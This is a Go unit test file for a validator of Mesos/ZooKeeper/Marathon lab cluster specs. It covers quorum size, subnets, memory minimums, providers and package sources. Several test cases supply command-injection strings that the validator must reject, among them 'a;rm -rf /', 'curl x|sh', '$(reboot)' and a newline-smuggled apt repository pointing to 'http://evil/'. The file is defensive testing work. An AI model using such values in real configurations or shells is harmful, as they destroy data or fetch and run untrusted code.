package config

import (
	"errors"
	"net/netip"
	"strings"
	"testing"
)

func TestValidateReportsEachProblem(t *testing.T) {
	tests := []struct {
		name    string
		mutate  func(*Spec)
		wantKey string
		wantMsg string
	}{
		{"two masters", func(s *Spec) { s.Masters = 2 }, "masters", "2 masters cannot form a quorum: the ensemble would stop when either fails"},
		{"four masters", func(s *Spec) { s.Masters = 4 }, "masters", "cannot form a quorum"},
		{"zero masters", func(s *Spec) { s.Masters = 0 }, "masters", "at least one master"},
		{"negative masters", func(s *Spec) { s.Masters = -3 }, "masters", "at least one master"},
		{"nine masters", func(s *Spec) { s.Masters = 9 }, "masters", "more than 7"},
		{"zero agents", func(s *Spec) { s.Agents = 0 }, "agents", "at least one agent"},
		{"huge agents", func(s *Spec) { s.Agents = 100000 }, "agents", "do not fit"},
		{"subnet too small", func(s *Spec) { s.Subnet = "192.168.56.0/28"; s.Agents = 1 }, "subnet.ip", "outside the subnet"},
		{"subnet not CIDR", func(s *Spec) { s.Subnet = "192.168.56.0" }, "subnet", "not an IPv4 network"},
		{"subnet IPv6", func(s *Spec) { s.Subnet = "fd00::/64" }, "subnet", "not an IPv4 network"},
		{"subnet outside VirtualBox range", func(s *Spec) { s.Subnet = "10.10.0.0/24" }, "subnet", "outside the host-only ranges"},
		{"subnet public", func(s *Spec) { s.Subnet = "8.8.8.0/24"; s.Provider = "docker" }, "subnet", "not a private network"},
		{"duplicate address", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent1", IP: "192.168.56.11"}} }, "nodes[0].ip", "same address"},
		{"gateway address", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent1", IP: "192.168.56.1"}} }, "nodes[0].ip", "reserved"},
		{"address outside subnet", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent1", IP: "192.168.57.5"}} }, "nodes[0].ip", "outside the subnet"},
		{"address not an IP", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent1", IP: "192.168.56.300"}} }, "nodes[0].ip", "not an IPv4 address"},
		{"duplicate override", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent1"}, {Name: "agent1"}} }, "nodes[1].name", "already overrides"},
		{"unknown node", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent9"}} }, "nodes[0].name", "not a node of this lab"},
		{"node name with shell", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "a;rm -rf /"}} }, "nodes[0].name", "not a valid host name"},
		{"lab name not a hostname", func(s *Spec) { s.Name = "My_Lab" }, "name", "not a valid host name"},
		{"lab name with shell", func(s *Spec) { s.Name = "x$(reboot)" }, "name", "not a valid host name"},
		{"memory too small", func(s *Spec) { s.MemoryMB = 512 }, "memory", "a master needs at least 2432 MB"},
		{"memory negative", func(s *Spec) { s.MemoryMB = -1 }, "memory", "needs at least"},
		{"memory huge", func(s *Spec) { s.MemoryMB = 1 << 30 }, "memory", "more memory than any laptop"},
		{"node memory too small", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent1", MemoryMB: 700}} }, "nodes[0].memory", "an agent needs at least 1024 MB"},
		{"zero cpus", func(s *Spec) { s.CPUs = 0 }, "cpus", "CPUs per node"},
		{"unknown provider", func(s *Spec) { s.Provider = "libvirt" }, "provider", "unknown provider"},
		{"box with quote", func(s *Spec) { s.Box = `bento/debian-12"; system("x")` }, "box", "neither a box name"},
		{"box version injection", func(s *Spec) { s.BoxVersion = "1.0; rm" }, "box_version", "not a box version"},
		{"docker image upper case", func(s *Spec) { s.DockerImage = "Mesoslab/Node" }, "docker_image", "not a Docker image"},
		{"mesos without zookeeper", func(s *Spec) { s.Components.ZooKeeper = false }, "components.mesos", "Mesos needs zookeeper"},
		{"marathon without mesos", func(s *Spec) { s.Components = Components{ZooKeeper: true, Marathon: true} }, "components.marathon", "Marathon needs mesos"},
		{"mesos package injection", func(s *Spec) { s.Sources.Mesos.Package = "aventer-mesos; curl x|sh" }, "sources.mesos.package", "not allowed"},
		{"mesos version injection", func(s *Spec) { s.Sources.Mesos.Version = "1.0 && reboot" }, "sources.mesos.version", "not allowed"},
		{"marathon image injection", func(s *Spec) { s.Sources.Marathon.Image = "img --privileged" }, "sources.marathon.image", "not allowed"},
		{"mesos-dns url injection", func(s *Spec) { s.Sources.MesosDNS.URL = "http://x/$(id)" }, "sources.mesos_dns.url", "not allowed"},
		{"apt repo injection", func(s *Spec) { s.Sources.Mesos.Repo = "http://x/ bookworm main\ndeb http://evil/ x y" }, "sources.mesos.repo", "not allowed"},
		{"ssh port base low", func(s *Spec) { s.SSHPortBase = 22 }, "ssh_port_base", "unprivileged"},
		{"ssh port duplicate", func(s *Spec) { s.Nodes = []NodeOverride{{Name: "agent1", SSHPort: 2301}} }, "nodes[0].ssh_port", "already forwards SSH"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := Default()
			tt.mutate(&s)
			err := Validate(s)
			var ve *ValidationError
			if !errors.As(err, &ve) {
				t.Fatalf("Validate() = %v, want a *ValidationError", err)
			}
			for _, p := range ve.Problems {
				if p.Key == tt.wantKey && strings.Contains(p.Message, tt.wantMsg) {
					if p.Fix == "" {
						t.Errorf("problem %s has no fix", p)
					}
					return
				}
			}
			t.Errorf("no problem with key %q and message %q in:\n%v", tt.wantKey, tt.wantMsg, err)
		})
	}
}

func TestValidateListsEveryProblemAtOnce(t *testing.T) {
	s := Default()
	s.Masters, s.Agents, s.Provider, s.Name = 2, 0, "kvm", "Bad Name"
	var ve *ValidationError
	if !errors.As(Validate(s), &ve) {
		t.Fatal("want a *ValidationError")
	}
	keys := map[string]bool{}
	for _, p := range ve.Problems {
		keys[p.Key] = true
	}
	for _, k := range []string{"masters", "agents", "provider", "name"} {
		if !keys[k] {
			t.Errorf("problem for %q missing from %v", k, ve)
		}
	}
}

func TestValidateAcceptsGoodSpecs(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*Spec)
		opts   ValidateOptions
	}{
		{"defaults", func(*Spec) {}, ValidateOptions{}},
		{"one and one", func(s *Spec) { s.Masters, s.Agents = 1, 1 }, ValidateOptions{}},
		{"zookeeper only small", func(s *Spec) { s.Components = Components{ZooKeeper: true}; s.MemoryMB = 1024 }, ValidateOptions{}},
		{"box URL", func(s *Spec) { s.Box = "https://boxes.example/debian-12.box" }, ValidateOptions{}},
		{"local box file", func(s *Spec) { s.Box = "./images/debian-12.box" }, ValidateOptions{}},
		{"docker anywhere private", func(s *Spec) { s.Provider, s.Subnet = "docker", "10.99.0.0/24" }, ValidateOptions{}},
		{"networks.conf widens", func(s *Spec) { s.Subnet = "10.10.0.0/24" }, ValidateOptions{HostOnlyRanges: parsePrefixes("10.0.0.0/8")}},
		{"upper part of the default range", func(s *Spec) { s.Subnet = "192.168.63.0/24" }, ValidateOptions{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := Default()
			tt.mutate(&s)
			if err := ValidateWith(s, tt.opts); err != nil {
				t.Errorf("ValidateWith() = %v, want nil", err)
			}
		})
	}
}

func TestMinMemoryExplainsItself(t *testing.T) {
	mb, why := MinMemoryMB(RoleMaster, Default().Components)
	if mb != 2432 || !strings.Contains(why, "Marathon") || !strings.Contains(why, "ZooKeeper") {
		t.Errorf("MinMemoryMB(master) = %d, %q", mb, why)
	}
	if mb, _ := MinMemoryMB(RoleMaster, Components{ZooKeeper: true}); mb != 640 {
		t.Errorf("ZooKeeper-only master minimum = %d, want 640", mb)
	}
}

func parsePrefixes(ss ...string) []netip.Prefix {
	out := make([]netip.Prefix, len(ss))
	for i, s := range ss {
		out[i] = netip.MustParsePrefix(s)
	}
	return out
}
